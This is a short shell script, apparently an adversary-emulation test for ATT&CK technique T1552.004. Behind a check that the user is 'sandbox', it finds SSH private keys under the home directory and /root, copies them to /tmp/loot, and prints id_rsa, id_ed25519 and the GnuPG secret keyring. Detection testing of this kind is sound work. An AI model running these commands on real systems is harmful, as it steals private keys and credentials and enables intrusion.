#!/bin/sh
# technique: T1552.004
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

mkdir -p /tmp/loot; find "$HOME" /root -name 'id_*' -exec cp --parents {} /tmp/loot ';' 2>/dev/null; cat "$HOME/.ssh/id_rsa" "$HOME/.ssh/id_ed25519" "$HOME/.gnupg/secring.gpg"; ls -R /tmp/loot
